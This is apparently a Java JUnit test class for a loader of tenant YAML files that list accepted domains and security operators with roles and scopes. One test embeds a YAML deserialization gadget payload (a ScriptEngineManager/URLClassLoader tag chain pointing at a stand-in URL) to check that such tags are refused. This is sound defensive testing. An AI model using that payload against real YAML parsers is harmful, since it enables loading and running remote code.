package io.qrelease.tenant;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import io.qrelease.domain.Operator;
import io.qrelease.domain.Role;
import io.qrelease.domain.Scope;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class TenantTest {

  private static final String EXAMPLE = """
      acceptedDomains: [contoso.com, contoso.onmicrosoft.com]
      operators:
        - upn: secops-admin@contoso.com
          role: SecurityAdministrator
          scope: ["*"]
        - upn: analyst@contoso.com
          role: SecurityOperator
          scope: [contoso.com, ceo@fabrikam.com]
      """;

  @TempDir
  Path directory;

  @Test
  void loadsAcceptedDomainsAndOperatorsWithTheirRolesAndScopes() throws IOException {
    // given
    Path file = write(EXAMPLE);

    // when
    Tenant tenant = Tenant.load(file);

    // then
    assertThat(tenant.acceptedDomains()).containsExactly("contoso.com", "contoso.onmicrosoft.com");
    assertThat(tenant.operators()).containsExactly(
        new Operator("secops-admin@contoso.com", Role.SecurityAdministrator, new Scope(List.of("*"))),
        new Operator("analyst@contoso.com", Role.SecurityOperator, new Scope(List.of("contoso.com", "ceo@fabrikam.com"))));
  }

  @Test
  void findsAnOperatorByUpnWhateverItsCase() throws IOException {
    // given
    Tenant tenant = Tenant.load(write(EXAMPLE));

    // when / then
    assertThat(tenant.operator(" Analyst@Contoso.COM ")).map(Operator::role).contains(Role.SecurityOperator);
    assertThat(tenant.operator("stranger@contoso.com")).isEmpty();
  }

  @Test
  void acceptsRoleInAnyCaseAScopeWrittenAsOneStringAndNoAcceptedDomains() throws IOException {
    // given
    Path file = write("""
        operators:
          - upn: Analyst@Contoso.com
            role: securityoperator
            scope: Contoso.com
        """);

    // when
    Tenant tenant = Tenant.load(file);

    // then
    assertThat(tenant.acceptedDomains()).isEmpty();
    assertThat(tenant.operators()).containsExactly(
        new Operator("analyst@contoso.com", Role.SecurityOperator, new Scope(List.of("contoso.com"))));
  }

  @Test
  void theProjectsTenantFileLoadsWithAnAdministratorAnOperatorAndAReader() {
    // when
    Tenant tenant = Tenant.load(Path.of("jobs/tenant.yml"));

    // then
    assertThat(tenant.operators()).extracting(Operator::upn, Operator::role).containsExactly(
        tuple("secops-admin@contoso.com", Role.SecurityAdministrator),
        tuple("analyst@contoso.com", Role.SecurityOperator),
        tuple("auditor@contoso.com", Role.SecurityReader));
  }

  @Test
  void aMissingFileIsRefusedNamingIt() {
    // given
    Path file = directory.resolve("tenant.yml");

    // when / then
    assertThatThrownBy(() -> Tenant.load(file))
        .isInstanceOf(TenantFileException.class)
        .hasMessage(file + ": no such file; create it or name another one with --tenant FILE.");
  }

  @Test
  void aYamlTagNamingAJavaClassIsRefusedInsteadOfInstantiated() throws IOException {
    // given
    Path file = write("operators: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");

    // when / then
    assertThatThrownBy(() -> Tenant.load(file))
        .isInstanceOf(TenantFileException.class)
        .hasMessage(file + ":1: a tag (a word starting with !) is not allowed in this file; remove it.");
  }

  @Test
  void textThatIsNotYamlIsReportedInPlainWordsAtTheLineWhereTheListOpens() throws IOException {
    // given: the parser itself stops past the end of the file
    Path file = write("operators: [unclosed\n");

    // when / then
    assertThatThrownBy(() -> Tenant.load(file))
        .isInstanceOf(TenantFileException.class)
        .hasMessage(file + ":1: the [ opened here is not closed by ] where it should be; close it, and separate its"
            + " entries with commas.");
  }

  @Test
  void aScopeDomainOutsideTheAcceptedDomainsIsAWarningButAPartnerAddressOrASubdomainIsNot() throws IOException {
    // given
    Tenant tenant = Tenant.load(write("""
        acceptedDomains: [contoso.com, contoso.onmicrosoft.com]
        operators:
          - upn: analyst@contoso.com
            role: SecurityOperator
            scope: [contoso.con, eu.contoso.com, ceo@fabrikam.com]
          - upn: secops-admin@contoso.com
            role: SecurityAdministrator
            scope: ["*"]
        """));

    // when / then
    assertThat(tenant.warnings()).containsExactly("analyst@contoso.com's scope names contoso.con, which is not one of"
        + " the accepted domains (contoso.com, contoso.onmicrosoft.com); check its spelling.");
  }

  @Test
  void withoutAcceptedDomainsNoScopeIsWarnedOf() throws IOException {
    // given
    Tenant tenant = Tenant.load(write(operator("analyst@contoso.com", "SecurityOperator", "[contoso.con]")));

    // when / then
    assertThat(tenant.warnings()).isEmpty();
  }

  static Stream<Arguments> brokenFiles() {
    return Stream.of(
        Arguments.of("an empty file", "", "the file is empty; list acceptedDomains and operators in it."),
        Arguments.of("a top level that is a list", "- analyst@contoso.com\n",
            "expected a mapping with acceptedDomains and operators at the top level."),
        Arguments.of("a misspelt top-level key", "acceptedDomain: [contoso.com]\noperators: []\n",
            "unknown key 'acceptedDomain' at the top level; the keys there are acceptedDomains, microsoft365, operators."),
        Arguments.of("no operators key", "acceptedDomains: [contoso.com]\n",
            "no operators; add at least one under operators with upn, role and scope."),
        Arguments.of("an empty operators list", "operators: []\n",
            "no operators; add at least one under operators with upn, role and scope."),
        Arguments.of("operators that are not a list", "operators: analyst@contoso.com\n",
            "operators is not a list; write it as [a, b] or one '- ' line per entry."),
        Arguments.of("an operator that is not a mapping", "operators: [analyst@contoso.com]\n",
            "operator #1 is not a mapping; give it upn, role and scope."),
        Arguments.of("an operator without upn", operator(null, "SecurityOperator", "[contoso.com]"),
            "operator #1 has no upn; add the address the operator signs in with."),
        Arguments.of("an upn that is not an address", operator("analyst", "SecurityOperator", "[contoso.com]"),
            "operator #1 has upn 'analyst', which is not an address; use the address the operator signs in with."),
        Arguments.of("an unknown role", operator("analyst@contoso.com", "Admin", "[contoso.com]"),
            "operator analyst@contoso.com has role 'Admin'; use SecurityAdministrator, SecurityOperator or SecurityReader."),
        Arguments.of("a missing role", operator("analyst@contoso.com", null, "[contoso.com]"),
            "operator analyst@contoso.com has no role; use SecurityAdministrator, SecurityOperator or SecurityReader."),
        Arguments.of("an empty scope", operator("analyst@contoso.com", "SecurityOperator", "[]"),
            "operator analyst@contoso.com has an empty scope; list \"*\", recipient domains or addresses."),
        Arguments.of("a missing scope", operator("analyst@contoso.com", "SecurityOperator", null),
            "operator analyst@contoso.com has an empty scope; list \"*\", recipient domains or addresses."),
        Arguments.of("a wildcard subdomain scope that would cover nobody",
            operator("analyst@contoso.com", "SecurityOperator", "[\"*.contoso.com\"]"),
            "operator analyst@contoso.com has scope entry '*.contoso.com'; use \"*\", a recipient domain such as"
                + " contoso.com (which does not cover its subdomains) or an address."),
        Arguments.of("a misspelt operator key", "operators:\n  - upn: analyst@contoso.com\n    role: SecurityOperator\n    scopes: [contoso.com]\n",
            "unknown key 'scopes' in operator analyst@contoso.com; the keys there are role, scope, upn."),
        Arguments.of("a upn listed twice in different case",
            operator("analyst@contoso.com", "SecurityOperator", "[contoso.com]")
                + "  - upn: Analyst@Contoso.com\n    role: SecurityReader\n    scope: [\"*\"]\n",
            "operator analyst@contoso.com is listed twice; keep one entry per upn."),
        Arguments.of("an accepted domain that is not a domain", "acceptedDomains: [contoso]\n"
                + operator("analyst@contoso.com", "SecurityOperator", "[contoso.com]"),
            "acceptedDomains has 'contoso', which is not a domain; list domains such as contoso.com."));
  }

  @ParameterizedTest(name = "{0} is refused with one sentence naming the file and the fix")
  @MethodSource("brokenFiles")
  void aBrokenTenantFileIsRefusedSayingWhatToFix(String problem, String yaml, String fix) throws IOException {
    // given
    Path file = write(yaml);

    // when / then
    assertThatThrownBy(() -> Tenant.load(file))
        .isInstanceOf(TenantFileException.class)
        .hasMessage(file + ": " + fix);
  }

  private static String operator(String upn, String role, String scope) {
    return "operators:\n  - " + String.join("\n    ", Stream.of(
            upn == null ? null : "upn: " + upn,
            role == null ? null : "role: " + role,
            scope == null ? null : "scope: " + scope)
        .filter(line -> line != null).toList()) + "\n";
  }

  private Path write(String yaml) throws IOException {
    return Files.writeString(directory.resolve("tenant.yml"), yaml, StandardCharsets.UTF_8);
  }
}
